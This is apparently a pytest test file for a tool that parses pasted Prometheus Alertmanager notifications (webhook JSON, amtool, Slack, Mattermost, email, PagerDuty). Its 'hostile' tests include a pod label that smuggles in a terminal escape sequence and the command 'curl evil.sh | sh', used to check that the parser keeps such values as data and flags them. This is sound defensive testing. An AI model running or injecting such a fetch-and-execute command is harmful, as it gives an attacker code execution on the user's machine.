"""Pasted alert notifications: every understood format, and hostile pastes."""

from __future__ import annotations

import json

import pytest

from rbdesk.core.usecases.alerts import MAX_PASTE_BYTES, AlertParseError, parse_alert_text

RUNBOOK = "https://runbooks.example.dev/runbooks/kubernetes/kubepodcrashlooping"


def webhook(*alerts: dict) -> str:
    """An Alertmanager webhook payload (version 4) as Alertmanager posts it."""
    return json.dumps(
        {
            "version": "4",
            "groupKey": '{}/{severity="warning"}:{alertname="KubePodCrashLooping"}',
            "truncatedAlerts": 0,
            "status": "firing",
            "receiver": "oncall-webhook",
            "groupLabels": {"alertname": "KubePodCrashLooping"},
            "commonLabels": {"alertname": "KubePodCrashLooping", "severity": "warning"},
            "commonAnnotations": {"runbook_url": RUNBOOK},
            "externalURL": "http://alertmanager.example:9093",
            "alerts": list(alerts),
        },
        indent=2,
    )


def am_alert(pod: str, **labels: str) -> dict:
    return {
        "status": "firing",
        "labels": {
            "alertname": "KubePodCrashLooping",
            "namespace": "payments",
            "pod": pod,
            "container": "api",
            "severity": "warning",
            "job": "kube-state-metrics",
            **labels,
        },
        "annotations": {
            "description": f"Pod payments/{pod} (api) is in waiting state (reason: CrashLoopBackOff).",
            "summary": "Pod is crash looping.",
        },
        "startsAt": "2026-12-01T22:41:07.123Z",
        "endsAt": "0001-01-01T00:00:00Z",
        "generatorURL": "http://prometheus.example:9090/graph?g0.expr=max_over_time%28x%29&g0.tab=1",
        "fingerprint": "1a30ba71cca2921f",
    }


def test_webhook_payload_one_alert():
    paste = parse_alert_text(webhook(am_alert("api-7d9f-x2")))
    assert paste.format == "alertmanager-webhook"
    (a,) = paste.alerts
    assert a.name == "KubePodCrashLooping"
    assert a.labels["pod"] == "api-7d9f-x2" and a.labels["namespace"] == "payments"
    assert a.runbook_url == RUNBOOK  # from commonAnnotations
    assert (a.status, a.starts_at) == ("firing", "2026-12-01T22:41:07.123Z")
    assert a.summary() == "Pod is crash looping."
    assert a.generator_url.startswith("http://prometheus.example:9090/graph")


def test_webhook_payload_several_alerts_keep_their_order():
    paste = parse_alert_text(webhook(am_alert("api-1"), am_alert("api-2"), am_alert("api-3")))
    assert [a.labels["pod"] for a in paste.alerts] == ["api-1", "api-2", "api-3"]
    assert paste.first.labels["pod"] == "api-1"


def test_amtool_json_output():
    # `amtool alert query -o json`: the API v2 gettable alerts, status is an object
    items = [
        {
            "annotations": {
                "description": 'etcd cluster "kube-etcd": 4 leader changes within the last 15m.',
                "runbook_url": "https://runbooks.example.dev/runbooks/etcd/etcdhighnumberofleaderchanges",
                "summary": "etcd cluster has high number of leader changes.",
            },
            "endsAt": "2026-12-01T23:10:37.551Z",
            "fingerprint": "0b4c6c0f2b3a1e55",
            "receivers": [{"name": "pagerduty"}],
            "startsAt": "2026-12-01T22:05:37.551Z",
            "status": {"inhibitedBy": [], "silencedBy": [], "state": "active"},
            "updatedAt": "2026-12-01T23:06:37.560Z",
            "generatorURL": "http://prometheus-k8s-0:9090/graph?g0.expr=x",
            "labels": {
                "alertname": "etcdHighNumberOfLeaderChanges",
                "instance": "10.0.0.11:2379",
                "job": "kube-etcd",
                "severity": "warning",
            },
        }
    ]
    paste = parse_alert_text(json.dumps(items))
    assert paste.format == "amtool-json"
    a = paste.first
    assert (a.name, a.status) == ("etcdHighNumberOfLeaderChanges", "active")
    assert a.runbook_url.endswith("/etcd/etcdhighnumberofleaderchanges")
    assert a.labels["instance"] == "10.0.0.11:2379"


SLACK = """[FIRING:2] KubePodCrashLooping (payments warning)
*Alert:* Pod is crash looping. - `warning`
*Description:* Pod payments/api-7d9f-x2 (api) is in waiting state (reason: CrashLoopBackOff).
*Runbook:* <https://runbooks.example.dev/runbooks/kubernetes/kubepodcrashlooping|:notebook:>
*Details:*
  • *alertname:* `KubePodCrashLooping`
  • *container:* `api`
  • *namespace:* `payments`
  • *pod:* `api-7d9f-x2`
  • *severity:* `warning`

*Alert:* Pod is crash looping. - `warning`
*Description:* Pod payments/worker-5c8b-q1 (worker) is in waiting state.
*Runbook:* <https://runbooks.example.dev/runbooks/kubernetes/kubepodcrashlooping|:notebook:>
*Details:*
  • *alertname:* `KubePodCrashLooping`
  • *container:* `worker`
  • *namespace:* `payments`
  • *pod:* `worker-5c8b-q1`
  • *severity:* `warning`
"""


def test_slack_notification_two_alerts():
    paste = parse_alert_text(SLACK)
    assert paste.format == "chat"
    assert [a.labels["pod"] for a in paste.alerts] == ["api-7d9f-x2", "worker-5c8b-q1"]
    a = paste.first
    assert a.name == "KubePodCrashLooping" and a.status == "firing"
    assert a.runbook_url == RUNBOOK
    assert a.annotations["summary"] == "Pod is crash looping."
    assert a.annotations["description"].startswith("Pod payments/api-7d9f-x2")
    assert a.labels["severity"] == "warning"


def test_slack_title_only_gives_the_name():
    paste = parse_alert_text("[FIRING:1] TargetDown (node-exporter critical)")
    assert paste.first.name == "TargetDown" and paste.first.labels == {"alertname": "TargetDown"}


MATTERMOST = """**[FIRING:1] NodeFilesystemSpaceFillingUp (node-exporter warning)**
**Summary:** Filesystem is predicted to run out of space within the next 24 hours.
- **instance**: `10.0.4.12:9100`
- **mountpoint**: `/var/lib/docker`
- **alertname**: `NodeFilesystemSpaceFillingUp`
[Runbook](https://runbooks.example.dev/runbooks/node/nodefilesystemspacefillingup)
"""


def test_mattermost_markdown_notification():
    a = parse_alert_text(MATTERMOST).first
    assert a.name == "NodeFilesystemSpaceFillingUp"
    assert a.labels["instance"] == "10.0.4.12:9100"
    assert a.labels["mountpoint"] == "/var/lib/docker"
    assert a.runbook_url.endswith("/node/nodefilesystemspacefillingup")


EMAIL = """[FIRING:1] KubePodCrashLooping (payments)

Labels:
 - alertname = KubePodCrashLooping
 - container = api
 - namespace = payments
 - pod = api-7d9f-x2
 - severity = warning
Annotations:
 - description = Pod payments/api-7d9f-x2 (api) is in waiting state.
 - runbook_url = https://runbooks.example.dev/runbooks/kubernetes/kubepodcrashlooping
 - summary = Pod is crash looping.
Source: http://prometheus.example:9090/graph?g0.expr=x&g0.tab=1
"""


def test_email_default_template_body():
    paste = parse_alert_text(EMAIL)
    assert paste.format == "text"
    a = paste.first
    assert len(paste.alerts) == 1
    assert a.labels == {
        "alertname": "KubePodCrashLooping",
        "container": "api",
        "namespace": "payments",
        "pod": "api-7d9f-x2",
        "severity": "warning",
    }
    assert a.runbook_url == RUNBOOK
    assert a.annotations["summary"] == "Pod is crash looping."


PAGERDUTY = """KubePodCrashLooping payments
firing: Labels:
 - alertname = KubePodCrashLooping
 - namespace = payments
 - pod = api-1
Annotations:
 - summary = Pod is crash looping.
Labels:
 - alertname = KubePodCrashLooping
 - namespace = payments
 - pod = api-2
num_firing: 2
"""


def test_pagerduty_details_with_two_label_blocks():
    paste = parse_alert_text(PAGERDUTY)
    assert [a.labels["pod"] for a in paste.alerts] == ["api-1", "api-2"]


def test_plain_alertname_and_label_set_lines():
    text = (
        "ALERT fired at 22:41 UTC\n"
        'group: {alertname="KubePodCrashLooping", namespace="pay ments", pod="api-1"}\n'
        "runbook: https://wiki.example.com/ops/kubepodcrashlooping\n"
    )
    a = parse_alert_text(text).first
    assert a.name == "KubePodCrashLooping"
    assert a.labels["namespace"] == "pay ments"
    assert a.runbook_url == "https://wiki.example.com/ops/kubepodcrashlooping"
    b = parse_alert_text("alertname=TargetDown job=node instance=10.0.0.5:9100").first
    assert (b.name, b.labels["instance"]) == ("TargetDown", "10.0.0.5:9100")


@pytest.mark.parametrize(
    "text",
    [RUNBOOK, f"  {RUNBOOK}\n", f"runbook_url: {RUNBOOK}", f"<{RUNBOOK}|runbook>"],
)
def test_bare_runbook_url(text):
    paste = parse_alert_text(text)
    assert paste.first.runbook_url == RUNBOOK
    assert paste.first.name == ""


# -- hostile ---------------------------------------------------------------------------------
def test_ten_megabytes_is_refused_quickly():
    with pytest.raises(AlertParseError, match="too large") as err:
        parse_alert_text(b"x" * (10 * 1024 * 1024))
    assert err.value.exit_code == 2
    with pytest.raises(AlertParseError, match="too large"):
        parse_alert_text("é" * (MAX_PASTE_BYTES // 2 + 1))  # counted in bytes, not chars


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ('{"alerts": [{"labels": ', "invalid JSON at line 1 column 23"),
        ("[1, 2", "invalid JSON"),
        ('{"hello": "world"}', "not an alert: JSON without"),
        ('{"alerts": []}', "lists no alerts"),
        ('{"alerts": [{"labels": "x"}]}', "item #1 has no `labels`"),
        ("[" * 100_000, "invalid JSON"),
        ("", "empty paste"),
        ("   \n\t ", "empty paste"),
        ("just some words\nfrom a chat", "not an alert"),
        ("a\x00b alertname=X", "NUL"),
    ],
)
def test_garbage_gets_a_one_line_reason(text, reason):
    with pytest.raises(AlertParseError) as err:
        parse_alert_text(text)
    assert reason in str(err.value)
    assert "\n" not in str(err.value)


def test_control_characters_in_values_are_kept_as_data_and_flagged():
    evil = "api-1\x1b[201~; curl evil.sh | sh\u202e"
    a = parse_alert_text(webhook(am_alert(evil))).first
    assert a.labels["pod"] == evil  # kept exactly: the copy rules quote and strip
    assert a.hidden() == ["label pod", "annotation description"]


def test_values_are_capped_and_non_string_values_kept_as_text():
    big = am_alert("p")
    big["labels"]["blob"] = "y" * 100_000
    big["annotations"]["value"] = {"nested": [1, 2]}
    a = parse_alert_text(webhook(big)).first
    assert len(a.labels["blob"]) == 8192
    assert a.annotations["value"] == '{"nested": [1, 2]}'


SLACK_COPIED = """[FIRING:1] KubePodCrashLooping (payments warning)
Alert: Pod is crash looping. - warning
Description: Pod payments/api-7d9f-x2 (api) is in waiting state (reason: CrashLoopBackOff).
Runbook: https://runbooks.example.dev/runbooks/kubernetes/kubepodcrashlooping
Details:
 • alertname: KubePodCrashLooping
 • namespace: payments
 • pod: api-7d9f-x2
Note: this line is not a label
"""


def test_slack_text_copied_from_the_client_without_markup():
    paste = parse_alert_text(SLACK_COPIED)
    assert paste.format == "chat"
    a = paste.first
    assert a.name == "KubePodCrashLooping"
    assert a.labels == {
        "alertname": "KubePodCrashLooping",
        "severity": "warning",
        "namespace": "payments",
        "pod": "api-7d9f-x2",
    }
    assert a.runbook_url == RUNBOOK
    assert a.annotations["summary"] == "Pod is crash looping."
    assert "note" not in a.labels


EMAIL_HTML_AS_TEXT = """1 alert for alertname=KubePodCrashLooping

View in Alertmanager

[1] Firing
Labels
alertname = KubePodCrashLooping
namespace = payments
pod = api-7d9f-x2
Annotations
runbook_url = https://runbooks.example.dev/runbooks/kubernetes/kubepodcrashlooping
summary = Pod is crash looping.
Source
"""


def test_email_html_template_copied_as_text():
    paste = parse_alert_text(EMAIL_HTML_AS_TEXT)
    assert len(paste.alerts) == 1
    a = paste.first
    assert a.labels["pod"] == "api-7d9f-x2" and a.runbook_url == RUNBOOK
    assert a.annotations["summary"] == "Pod is crash looping."


def test_a_label_set_is_not_taken_for_broken_json():
    a = parse_alert_text('{alertname="KubePodCrashLooping", namespace="payments", pod="api-1"}')
    assert a.first.name == "KubePodCrashLooping"
    assert a.first.labels == {
        "alertname": "KubePodCrashLooping",
        "namespace": "payments",
        "pod": "api-1",
    }
    with pytest.raises(AlertParseError, match="invalid JSON"):
        parse_alert_text('{"alertname": "KubePodCrashLooping",}')
